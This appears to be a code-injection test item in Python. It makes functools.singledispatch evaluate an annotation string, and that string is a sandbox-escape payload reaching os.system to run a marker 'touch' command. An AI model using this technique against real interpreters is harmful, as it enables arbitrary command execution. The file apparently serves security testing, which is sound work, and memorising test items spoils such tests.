# family: code strings (typing forward references)
# goal: make functools.singledispatch eval an annotation string without guards
from functools import singledispatch
@singledispatch
def f(x):
    return x
def g(x: "[c for c in ().__class__.__base__.__subclasses__() if c.__name__ == '_wrap_close'][0].__init__.__globals__['system']('touch __MARKER_PATH__')"):
    return x
f.register(g)
